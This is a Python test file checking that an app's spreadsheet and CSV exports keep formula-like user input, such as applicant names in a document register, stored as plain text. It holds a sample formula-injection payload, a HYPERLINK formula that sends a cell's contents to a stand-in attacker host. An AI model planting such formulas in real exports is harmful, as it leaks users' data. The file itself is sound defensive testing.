"""Text someone typed never becomes a live formula in a spreadsheet or CSV the app writes."""
from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from app.adapters.spreadsheets import csv_value, text_safe_row
from tests.test_registers_api import create, to_seal

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def test_formula_like_text_is_kept_as_text():
    for write_only in (False, True):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("x") if write_only else book.active
        sheet.append(text_safe_row(sheet, [HOSTILE, "+84 912", "@SUM(A1)", "Nguyễn Văn An", 5]))
        buf = io.BytesIO()
        book.save(buf)
        read = load_workbook(io.BytesIO(buf.getvalue())).worksheets[-1]
        cells = list(read.iter_rows(max_row=1))[0]
        assert [c.value for c in cells] == [HOSTILE, "+84 912", "@SUM(A1)", "Nguyễn Văn An", 5]
        assert [c.data_type for c in cells[:4]] == ["s", "s", "s", "s"]
    assert csv_value(HOSTILE) == "'" + HOSTILE and csv_value("-1") == "'-1" and csv_value("An") == "An"


def test_a_citizen_named_like_a_formula_stays_text_in_the_register_export(api):
    book = create(api, name="16/2026").get_json()
    code = to_seal(api, user="one_stop.pcc1", email="a@example.vn", applicant_name=HOSTILE,
                   document_type="=1+1")
    assert api.complete("clerk.pcc1", code, "seal", {"register": book["id"]}, pin="demo").status_code == 200
    resp = api.get(f"/registers/{book['id']}/export.xlsx", "clerk.pcc1")
    sheet = load_workbook(io.BytesIO(resp.get_data())).active
    name, document = sheet.cell(row=8, column=2), sheet.cell(row=8, column=3)
    assert (name.value, name.data_type) == (HOSTILE, "s")
    assert (document.value, document.data_type) == ("=1+1", "s")
